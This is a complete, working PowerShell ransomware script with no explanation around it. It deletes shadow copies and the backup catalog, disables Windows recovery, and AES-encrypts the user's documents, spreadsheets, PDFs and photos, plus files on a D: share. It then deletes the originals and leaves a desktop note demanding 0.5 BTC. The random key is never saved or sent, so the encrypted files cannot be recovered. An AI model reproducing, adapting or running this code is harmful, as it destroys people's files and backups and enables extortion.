$ErrorActionPreference = 'SilentlyContinue'
$key = [byte[]](1..32 | ForEach-Object { Get-Random -Maximum 256 })
$iv  = [byte[]](1..16 | ForEach-Object { Get-Random -Maximum 256 })

vssadmin.exe delete shadows /all /quiet
wbadmin delete catalog -quiet
bcdedit /set '{default}' recoveryenabled no
Get-CimInstance Win32_ShadowCopy | Remove-CimInstance

$aes = [System.Security.Cryptography.Aes]::Create()
$aes.Key = $key
$aes.IV = $iv
$targets = Get-ChildItem -Path "$env:USERPROFILE\Documents", 'D:\Shares' -Recurse -File -Include *.docx, *.xlsx, *.pdf, *.jpg

foreach ($f in $targets) {
    $plain = [IO.File]::ReadAllBytes($f.FullName)
    $enc = $aes.CreateEncryptor().TransformFinalBlock($plain, 0, $plain.Length)
    [IO.File]::WriteAllBytes("$($f.FullName).locked", $enc)
    Remove-Item -Path $f.FullName -Force
}

$note = "Your files are encrypted. Send 0.5 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh and mail the ID below.`nID: $env:COMPUTERNAME"
Set-Content -Path "$env:USERPROFILE\Desktop\README_RESTORE.txt" -Value $note
